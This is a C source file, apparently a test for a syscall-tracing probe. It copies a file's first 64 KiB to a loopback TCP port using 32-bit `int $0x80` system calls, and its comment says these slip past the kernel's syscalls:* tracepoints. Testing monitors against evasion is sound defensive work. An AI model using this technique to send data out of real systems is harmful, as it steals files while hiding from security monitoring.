/*
 * Exfiltration through 32-bit system calls from a 64-bit process: open,
 * read, socket, connect and write made with `int $0x80` (the ia32 ABI,
 * i386 numbers). The kernel's syscalls:* tracepoints do not report compat
 * calls, so none of these is an event; the probe's raw_syscalls program
 * reports the thread's first one. Usage: ia32-exfil FILE PORT (sends FILE's
 * first 64 KiB to 127.0.0.2:PORT); prints "read N sent M".
 *
 * Built static and not position-independent, so the buffers passed to the
 * kernel (globals) have 32-bit addresses.
 */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static long sys32(long nr, long a, long b, long c) {
  long ret;
  /* the compat entry clears r8-r11 on the way back */
  __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
  return ret;
}

enum { IA32_READ = 3, IA32_WRITE = 4, IA32_OPEN = 5, IA32_CLOSE = 6, IA32_SOCKET = 359, IA32_CONNECT = 362 };

static char path[4096];
static char buf[65536];
static struct sockaddr_in sa;

int main(int argc, char **argv) {
  if (argc != 3) {
    fprintf(stderr, "usage: ia32-exfil FILE PORT\n");
    return 2;
  }
  strncpy(path, argv[1], sizeof path - 1);
  long fd = sys32(IA32_OPEN, (long)path, 0, 0);
  if (fd < 0) {
    fprintf(stderr, "open: %ld\n", fd);
    return 1;
  }
  long n = sys32(IA32_READ, fd, (long)buf, sizeof buf);
  sys32(IA32_CLOSE, fd, 0, 0);
  long s = sys32(IA32_SOCKET, AF_INET, SOCK_STREAM, 0);
  sa.sin_family = AF_INET;
  sa.sin_port = htons((unsigned short)atoi(argv[2]));
  sa.sin_addr.s_addr = inet_addr("127.0.0.2");
  long c = sys32(IA32_CONNECT, s, (long)&sa, sizeof sa);
  long w = c == 0 && n > 0 ? sys32(IA32_WRITE, s, (long)buf, n) : -1;
  sys32(IA32_CLOSE, s, 0, 0);
  printf("read %ld sent %ld\n", n, w);
  return n > 0 && c == 0 && w == n ? 0 : 1;
}
